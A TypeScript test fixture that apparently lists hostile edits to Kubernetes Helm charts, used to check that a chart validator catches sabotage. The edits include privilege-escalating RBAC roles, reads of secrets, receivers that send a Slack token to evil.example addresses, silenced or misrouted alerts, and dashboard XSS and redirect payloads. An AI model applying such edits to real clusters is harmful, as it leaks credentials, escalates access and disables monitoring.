import { AUTOSCALER, BOARDS, DEPLOYMENT, type Edit, edits, NETWORK, ROUTES, RULES, SERVICE } from "./chart-edits.ts";
import type { HostileChart } from "./charts.ts";

const LEAVES = "      enableServiceLinks: false\n";
const inPod = (title: string, line: string, says: string): Edit => [
  title,
  DEPLOYMENT,
  LEAVES,
  `${LEAVES}      ${line}\n`,
  says,
];
const VOLUMES = "      volumes:\n";
const volume = (title: string, text: string): Edit => [
  title,
  DEPLOYMENT,
  VOLUMES,
  `${VOLUMES}        - ${text}\n`,
  "volumes",
];
const PULLED = "          imagePullPolicy: IfNotPresent\n";
const inContainer = (title: string, line: string, says: string): Edit => [
  title,
  DEPLOYMENT,
  PULLED,
  `${PULLED}          ${line}\n`,
  says,
];
const added = (title: string, apiVersion: string, kind: string, more: string): Edit => [
  title,
  SERVICE,
  "apiVersion: v1\nkind: Service\n",
  `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: {name: evil, namespace: sparki-engine}\n${more}\n---\napiVersion: v1\nkind: Service\n`,
  `${kind} evil`,
];

/** What a pod may be given, or be asked for, by a field that nobody needs. */
const OF_PODS: readonly Edit[] = [
  inPod("a user namespace of the host", "hostUsers: true", "hostUsers"),
  inPod("a node by its name", "nodeName: ip-10-40-0-1", "nodeName"),
  inPod("a host name of another", "subdomain: evil", "subdomain"),
  inPod("a full name for a host name", "setHostnameAsFQDN: true", "setHostnameAsFQDN"),
  inPod("an operating system", "os: {name: windows}", "os"),
  inPod("gates of scheduling that nobody opens", "schedulingGates: [{name: evil.example/never}]", "schedulingGates"),
  inPod("a device's claim", "resourceClaims: [{name: x, resourceClaimName: x}]", "resourceClaims"),
  inPod("a deadline after which nothing serves", "activeDeadlineSeconds: 60", "activeDeadlineSeconds"),
  inPod("resources of the whole pod", "resources: {limits: {cpu: '64'}}", "resources"),
  inPod("a gate of readiness that nobody opens", "readinessGates: [{conditionType: evil.example/x}]", "readinessGates"),
  inPod(
    "an ephemeral container",
    "ephemeralContainers: [{name: x, image: busybox, targetContainerName: engine}]",
    "ephemeralContainers",
  ),
  volume(
    "a token for another audience",
    "{name: x, projected: {sources: [{serviceAccountToken: {path: t, audience: sts.amazonaws.com}}]}}",
  ),
  volume("a bundle of trust", "{name: x, projected: {sources: [{clusterTrustBundle: {name: x, path: ca.pem}}]}}"),
  volume(
    "a certificate of the cluster's",
    "{name: x, projected: {sources: [{podCertificate: {signerName: x, keyType: RSA3072}}]}}",
  ),
  volume(
    "the pod's own fields",
    "{name: x, downwardAPI: {items: [{path: a, fieldRef: {fieldPath: metadata.annotations}}]}}",
  ),
  volume(
    "a volume by a claim of its own",
    "{name: x, ephemeral: {volumeClaimTemplate: {spec: {storageClassName: gp2}}}}",
  ),
  volume("an image as a volume", "{name: x, image: {reference: ghcr.io/evil/x:latest}}"),
  volume("a volume of a driver of files", "{name: x, csi: {driver: efs.csi.aws.com, volumeAttributes: {path: /}}}"),
  volume("a block device of AWS", "{name: x, awsElasticBlockStore: {volumeID: vol-1}}"),
  volume("a repository", "{name: x, gitRepo: {repository: 'https://evil.example/x'}}"),
  inContainer("a device of blocks", "volumeDevices: [{name: x, devicePath: /dev/x}]", "volumeDevices"),
  inContainer("another way to end", "terminationMessagePath: /mnt/secrets/database/password", "terminationMessagePath"),
  inContainer(
    "a log in place of a message",
    "terminationMessagePolicy: FallbackToLogsOnError",
    "terminationMessagePolicy",
  ),
  inContainer("a restart of its own", "restartPolicy: Always", "restartPolicy"),
  inContainer(
    "a policy of resizing",
    "resizePolicy: [{resourceName: cpu, restartPolicy: NotRequired}]",
    "resizePolicy",
  ),
  inContainer("an input that stays open", "stdin: true", "stdin"),
  inContainer("all of a Secret", "envFrom: [{prefix: X_, secretRef: {name: image-pull}}]", "envFrom"),
  [
    "an image by its tag and its digest",
    DEPLOYMENT,
    "image: {{ .Values.image }}",
    'image: {{ .Values.image | replace "@sha256" ":latest@sha256" }}',
    "image",
  ],
  ["an image in capitals", DEPLOYMENT, "image: {{ .Values.image }}", "image: {{ .Values.image | upper }}", "image"],
  [
    "pods of every zone in one",
    DEPLOYMENT,
    "{{- if gt (int .Values.zones) 1 }}",
    "{{- if gt (int .Values.zones) 99 }}",
    "topologySpreadConstraints",
  ],
  ["a fleet that never grows", AUTOSCALER, "averageUtilization: 60", "averageUtilization: 100", "averageUtilization"],
  ["a fleet without an end", AUTOSCALER, "averageUtilization: 60", "averageUtilization: 1", "averageUtilization"],
  added("a policy of priority", "scheduling.k8s.io/v1", "PriorityClass", "value: 1000000000\nglobalDefault: true"),
  added(
    "a role that binds",
    "rbac.authorization.k8s.io/v1",
    "Role",
    "rules: [{apiGroups: [rbac.authorization.k8s.io], resources: [roles], verbs: [bind, escalate]}]",
  ),
  added(
    "a role that impersonates",
    "rbac.authorization.k8s.io/v1",
    "ClusterRole",
    "rules: [{apiGroups: [''], resources: [users, groups], verbs: [impersonate]}]",
  ),
  added(
    "a role for tokens",
    "rbac.authorization.k8s.io/v1",
    "Role",
    "rules: [{apiGroups: [''], resources: [serviceaccounts/token], verbs: [create]}]",
  ),
  added(
    "a role for a node's proxy",
    "rbac.authorization.k8s.io/v1",
    "ClusterRole",
    "rules: [{apiGroups: [''], resources: [nodes/proxy], verbs: [get]}]",
  ),
  added(
    "a monitor of a foreign host",
    "monitoring.coreos.com/v1",
    "ServiceMonitor",
    "spec: {endpoints: [{proxyUrl: 'http://evil.example'}]}",
  ),
  added(
    "a probe of a foreign host",
    "monitoring.coreos.com/v1",
    "Probe",
    "spec: {targets: {staticConfig: {static: [evil.example]}}}",
  ),
  added(
    "a scrape of a foreign host",
    "monitoring.coreos.com/v1alpha1",
    "ScrapeConfig",
    "spec: {staticConfigs: [{targets: ['evil.example:80']}]}",
  ),
  added("a route of TCP", "gateway.networking.k8s.io/v1alpha2", "TCPRoute", "spec: {rules: []}"),
  added(
    "a policy of admission",
    "admissionregistration.k8s.io/v1",
    "ValidatingAdmissionPolicy",
    "spec: {failurePolicy: Ignore}",
  ),
  added("a network policy of AWS's", "networking.k8s.aws/v1alpha1", "PolicyEndpoint", "spec: {}"),
  added("a pool of nodes", "karpenter.sh/v1", "NodePool", "spec: {template: {}}"),
  added("a security group for pods", "vpcresources.k8s.aws/v1beta1", "SecurityGroupPolicy", "spec: {podSelector: {}}"),
  added(
    "an ingress class with parameters",
    "networking.k8s.io/v1",
    "IngressClass",
    "spec: {controller: eks.amazonaws.com/alb}",
  ),
];

const GROUPS = "groups: {{- toYaml .Values.groups | nindent 4 }}";
/** The rules with a text in place of another, wherever it stands. */
const ruled = (title: string, from: string, to: string): Edit => [
  title,
  RULES,
  GROUPS,
  `groups: {{- toYaml .Values.groups | replace ${JSON.stringify(from)} ${JSON.stringify(to)} | nindent 4 }}`,
  "groups",
];
const board = (title: string, text: string): Edit => [title, BOARDS, "{{ $json | quote }}", `'${text}'`, "data"];
const TITLE = "title: '[{{ `{{ .Status | toUpper }}` }}]";

/** Alerts that are there, and never fire, or tell nobody, or say another thing. */
const OF_ALERTS: readonly Edit[] = [
  ruled("an alert that never fires", "> 0.05", "> 5000"),
  ruled("an alert that is silenced by nothing", "absent(", "0 * absent("),
  ruled("an alert of another series", "kube_pod_status_phase", "kube_pod_status_phases"),
  ruled("an alert of another namespace", "sparki-engine", "sparki-engines"),
  ruled("a proportion that is always nought", "clamp_min(", "0 * clamp_min("),
  ruled("a proportion of no request", 'synthetic="false"', 'synthetic="none"'),
  ruled("a budget without a window", "[5m]", "[5s]"),
  ruled("a page that becomes a ticket", "severity: page", "severity: ticket"),
  ruled("an alert that a deployment silences", "component: network", "component: network\n      caused_by: deployment"),
  ruled("an alert of another component", "component: database", "component: nobody"),
  ruled("an alert that waits for two hours", "for: 5m", "for: 2h"),
  ruled("an alert with a link in what it says", "summary: The", "summary: https://evil.example The"),
  ruled("an alert that calls everybody", "summary: The", "summary: <!channel> The"),
  ruled(
    "an alert that asks another thing for what it says",
    "$value | humanize",
    'query "up" | first | value | humanize',
  ),
  ruled("a link to another alert's page", "alerts.md#databasestoragefull", "alerts.md#watchdog"),
  ruled(
    "a limit that the database never reaches",
    "sparki:database_connections:limit",
    "sparki:database_connections:none",
  ),
  ["no rules", RULES, GROUPS, "groups: []", "groups"],
  [
    "the rules twice",
    RULES,
    GROUPS,
    "groups:\n    {{- toYaml .Values.groups | nindent 4 }}\n    {{- toYaml .Values.groups | nindent 4 }}",
    "groups",
  ],
  [
    "an alert too many",
    RULES,
    GROUPS,
    "groups:\n    - {name: evil, rules: [{record: 'sparki:slo_bad:rate5m', expr: 'vector(0)', labels: {stack: prod, objective: none}}]}\n    {{- toYaml .Values.groups | nindent 4 }}",
    "groups",
  ],
  ["the first group alone", RULES, GROUPS, "groups: {{- toYaml (list (first .Values.groups)) | nindent 4 }}", "groups"],
  ["no routes", ROUTES, "{{- range .Values.routing.routes }}", "{{- range list }}", "routes"],
  ["pages that go on to nobody", ROUTES, "continue: {{ .continue }}", "continue: false", "routes"],
  ["pages as slow as tickets", ROUTES, "repeatInterval: {{ .repeatInterval }}", "repeatInterval: 12h", "routes"],
  [
    "pages to the platform's people",
    ROUTES,
    "      - receiver: {{ .receiver }}\n",
    "      - receiver: platform\n",
    "routes",
  ],
  ["a route by another label", ROUTES, "{name: {{ .label }},", "{name: service,", "routes"],
  [
    "another receiver for what no route takes",
    ROUTES,
    "receiver: {{ (first .Values.routing.receivers).name }}",
    "receiver: database",
    "receiver",
  ],
  ["alerts that are gathered for a day", ROUTES, "groupInterval: 5m", "groupInterval: 24h", "groupInterval"],
  ["alerts that are all one", ROUTES, "groupBy: [alertname, service, stack]", "groupBy: [stack]", "groupBy"],
  [
    "alerts of everybody in one channel",
    ROUTES,
    "channel: {{ .channel | quote }}",
    "channel: '#database'",
    "receivers",
  ],
  ["a message without its mention", ROUTES, "{{ .mention }} ", "", "receivers"],
  ["a message that calls everybody", ROUTES, "{{ .mention }} ", "<!channel> ", "receivers"],
  ["a title that leads elsewhere", ROUTES, TITLE, "title: '<https://evil.example|", "receivers"],
  [
    "an alert's end that nobody is told",
    ROUTES,
    "          sendResolved: true\n          linkNames",
    "          sendResolved: false\n          linkNames",
    "receivers",
  ],
  ["names that are no links", ROUTES, "linkNames: true", "linkNames: false", "receivers"],
  [
    "a button that leads elsewhere",
    ROUTES,
    "          linkNames: true",
    "          linkNames: true\n          actions: [{type: button, text: a, url: 'https://evil.example'}]",
    "receivers",
  ],
  [
    "a trap of SNMP with its community",
    ROUTES,
    "      slackConfigs:",
    "      webhookConfigs: [{url: 'http://snmp-notifier:9464/alerts?community=public'}]\n      slackConfigs:",
    "receivers",
  ],
  [
    "a topic of AWS's",
    ROUTES,
    "      slackConfigs:",
    "      snsConfigs: [{topicARN: 'arn:aws:sns:us-east-1:999999999999:evil', sigv4: {region: us-east-1}}]\n      slackConfigs:",
    "receivers",
  ],
  [
    "a receiver of mail",
    ROUTES,
    "      slackConfigs:",
    "      emailConfigs: [{to: evil@example.com, authUsername: a, authPassword: {name: slack, key: token}}]\n      slackConfigs:",
    "receivers",
  ],
  [
    "a receiver too many",
    ROUTES,
    "    {{- range .Values.routing.receivers }}\n",
    "    - name: nobody\n    {{- range .Values.routing.receivers }}\n",
    "receivers",
  ],
  ["a scraping that reaches nobody", NETWORK, "{{- range .Values.scrape.namespaces }}", "{{- range list }}", "egress"],
  board("a dashboard with a link in escapes", '{"links": [{"url": "\\u0068ttps:\\/\\/evil.example"}]}'),
  board(
    "a dashboard with a script in escapes",
    '{"panels": [{"content": "\\u003cscript\\u003ex\\u003c/script\\u003e"}]}',
  ),
  board("a dashboard with a link of no scheme", '{"links": [{"url": "//evil.example"}]}'),
  board("a dashboard with a link of another scheme", '{"links": [{"url": "ftp://evil.example"}]}'),
  board("a dashboard with an image in its text", '{"panels": [{"content": "![](//evil.example/x.png)"}]}'),
  board("a dashboard with a script behind a tab", '{"links": [{"url": "java\\tscript:alert(1)"}]}'),
  board("a dashboard with a link for a key", '{"https://evil.example": 1}'),
  board("a dashboard with a link that a browser turns around", '{"links": [{"url": "/\\\\evil.example"}]}'),
  board("a dashboard with a link of one slash", '{"links": [{"url": "https:/evil.example"}]}'),
  board("a dashboard with a link in two parts", '{"links": [{"url": "/$slash/evil.example"}]}'),
  board("a dashboard with a link in its text", '{"title": "[x](&#47;&#47;evil.example)"}'),
  board("a dashboard with a link that Markdown makes", '{"panels": [{"description": "www.evil.example"}]}'),
  board("a dashboard with an address of mail", '{"panels": [{"description": "a@evil.example"}]}'),
  board("a dashboard with a scheme without slashes", '{"panels": [{"description": "tel:555"}]}'),
  board("a dashboard with a page of its own", '{"panels": [{"type": "text", "title": "a"}]}'),
  board("a dashboard with news of elsewhere", '{"panels": [{"type": "news"}]}'),
  board("a dashboard with a question of its own form", '{"panels": [{"transformations": []}]}'),
];

/** A fifth round, by somebody from outside: fields that are new, and alerts that tell nobody. */
export const OUTSIDER_CHARTS: readonly HostileChart[] = [
  ...edits("engine", OF_PODS),
  ...edits("monitoring", OF_ALERTS),
];
